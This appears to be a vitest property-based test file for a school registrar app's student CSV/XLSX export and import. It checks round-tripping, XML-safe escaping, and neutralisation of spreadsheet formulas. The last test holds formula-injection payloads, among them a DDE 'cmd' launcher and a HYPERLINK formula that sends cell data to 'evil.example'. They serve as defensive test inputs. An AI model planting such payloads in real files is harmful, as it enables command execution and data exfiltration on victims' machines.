import { text } from 'node:stream/consumers';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { fromBufferPromise } from 'yauzl';
import { findInvisibleCharacter } from '../../../src/input/invisible.ts';
import { useSharedApp } from '../../support/app.ts';
import { formWith } from '../../support/files.ts';
import { signedIn } from '../../support/signed-in.ts';

const app = await useSharedApp();

const awkward = fc.constantFrom(
  "'",
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '.',
  '1',
  '+1',
  '-.2',
  '(',
  '/',
  'x',
  'A1',
  '\t',
  '\r',
  '\n',
  '"',
  ',',
  ';',
  '|',
  '<',
  '&',
  '_x000D_',
  '_x0041',
  '\u0001',
  '\uFFFE',
  '\uFFFF',
  '\\N',
  '#REF',
  '# ',
  '\uFFFD',
  '\x1b$B',
  'E+10',
  '0',
  ' ',
);
const errors = fc.constantFrom('#N/A', '#NAME?', '#REF!', '#DIV/0!', "'#N/A");
const piece = fc.oneof(
  { weight: 3, arbitrary: awkward },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 3 }) },
);
/** Texts in their stored form: trimmed, normalised, not blank. */
const stored = fc
  .oneof(
    { weight: 9, arbitrary: fc.array(piece, { minLength: 1, maxLength: 8 }) },
    { weight: 1, arbitrary: fc.tuple(errors) },
  )
  .map((pieces) => pieces.join('').replaceAll('\0', '').trim().normalize('NFC'))
  .filter((text) => /[^\s\p{Default_Ignorable_Code_Point}]/u.test(text) && text.isWellFormed())
  .filter((text) => !findInvisibleCharacter(text, 'identifier'));

test.each(['＝1+1', '＋cmd', '－A1', '＠SUM(1)'])('exports %s as text and imports it unchanged', async (text) => {
  const user = await app.make.aUser({ role: 'registrar' });
  await app.make.aStudent(user.institution, { student_id: 'S1', first_name: text, last_name: '＋1 555 0100' });
  const client = await app.as(user);
  const csv = (await client.download('/students/export')).bytes.toString('utf8');
  expect(csv).toContain(`,'${text},＋1 555 0100,`);
  const { bytes } = await client.download('/students/export?format=xlsx');
  expect(await textsOf(bytes)).toContain(`'${text}`);
  const { body } = await client.send('POST', '/students/import', formWith(csv, { mode: 'upsert' }));
  expect(body).toMatchObject({ unchanged: 1, failed: 0 });
});

test('writes no character to a workbook that XML does not allow', async () => {
  const user = await app.make.aUser({ role: 'registrar' });
  await app.make.aStudent(user.institution, { first_name: 'A\uFFFEB\uFFFFC\u0001D' });
  const { bytes } = await (await app.as(user)).download('/students/export?format=xlsx');
  const xml = await textsOf(bytes);
  expect(xml).toContain('A_xFFFE_B_xFFFF_C_x0001_D');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters that it must not contain.
  expect(xml).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f\uFFFE\uFFFF]/);
});

test.each(['csv', 'xlsx'])('exports any texts as .%s and imports them without changes', async (format) => {
  const user = await app.make.aUser({ role: 'registrar' });
  const texts = fc.sample(fc.tuple(stored, stored, stored, stored), 400);
  await app.pool.query(
    `insert into students (institution_id, student_id, first_name, last_name, email, enrollment_date, address_street, address_zip,
       middle_name, grade_level)
     select $1, n || 'x' || student_id, first_name, last_name, n || '@x.example', '2024-01-01', street, student_id, last_name, first_name
     from unnest($2::text[], $3::text[], $4::text[], $5::text[]) with ordinality as t (student_id, first_name, last_name, street, n)`,
    [user.institution.id, ...[0, 1, 2, 3].map((index) => texts.map((tuple) => tuple[index]))],
  );
  const client = await app.as(user);
  const { bytes } = await client.download(`/students/export?format=${format}`);
  const { body } = await client.post('/students/import', formWith(bytes, { mode: 'upsert' }));
  expect(body.errors).toEqual([]);
  expect(body).toMatchObject({ total_rows: 400, unchanged: 400, updated: 0, created: 0 });
});

test.each(['csv', 'xlsx'])(
  'exports whatever students REST accepts as .%s and imports them without changes',
  async (format) => {
    const { user, client } = await signedIn(app, 'registrar');
    const course = { name: 'A;B', code: '5A' };
    const classes = [
      await app.make.aClass(user.institution, course),
      await app.make.aClass(user.institution, { name: '5A', code: "'=1" }),
      await app.make.aClass(user.institution, { name: 'A;B', code: '# 1' }),
    ];
    const optional = (arbitrary: fc.Arbitrary<unknown>) => fc.option(arbitrary, { freq: 3 });
    const number = fc.constantFrom(
      '0077',
      '77',
      '77.0',
      '1,234',
      '1.234,5',
      '1.5E+10',
      '12345.6',
      '+1 541 555 0100',
      '0171.2345678',
    );
    const student = fc.record({
      student_id: fc.oneof({ weight: 9, arbitrary: stored }, { weight: 1, arbitrary: number }),
      first_name: fc.oneof(fc.constant(''), stored),
      last_name: stored,
      phone: optional(fc.constantFrom('+1 541 555 0100', '171.2345', '5,415,550,177', '0171.2345678')),
      date_of_birth: optional(fc.constantFrom('1900-01-02', '1900-02-28', '1900-03-01', '1999-12-31', '2020-02-29')),
      class_id: optional(fc.constantFrom(...classes)),
      address: optional(
        fc.record({ street: optional(stored), zip: optional(fc.oneof(stored, number)), city: optional(stored) }),
      ),
    });
    let accepted = 0;
    for (const values of fc.sample(student, 80))
      accepted += (await client.post('/students', values)).status === 201 ? 1 : 0;
    expect(accepted).toBeGreaterThan(40);
    const { bytes } = await client.download(`/students/export?format=${format}`);
    const { body } = await client.post('/students/import', formWith(bytes, { mode: 'upsert' }));
    expect(body.errors).toEqual([]);
    expect(body).toMatchObject({ total_rows: accepted, unchanged: accepted });
  },
);

test('prefixes texts that begin like a number and continue as a formula', async () => {
  const run = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://evil.example/?"&E2,"x")', '-1 A1', '+1\n=A1'];
  const harmless = ['-5', '+.25', '+49 (30) 1234-56/7 x89', '-1 Basement'];
  const user = await app.make.aUser({ role: 'registrar' });
  for (const text of [...run, ...harmless]) await app.make.aStudent(user.institution, { address_street: text });
  const client = await app.as(user);
  const { body } = await client.get('/students/export');
  for (const text of run) expect(body).toContain(`2024-09-01,${csvField(`'${text}`)},`);
  for (const text of harmless) expect(body).toContain(`2024-09-01,${text},`);
  const again = await client.post('/students/import', formWith(body, { mode: 'upsert' }));
  expect(again.body).toMatchObject({ unchanged: 8, failed: 0 });
});

function csvField(text: string): string {
  return /[",\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** Returns the XML of all parts of a workbook. */
async function textsOf(workbook: Buffer): Promise<string> {
  const zip = await fromBufferPromise(workbook);
  let xml = '';
  for await (const entry of zip.eachEntry()) xml += await text(await zip.openReadStreamPromise(entry));
  return xml;
}
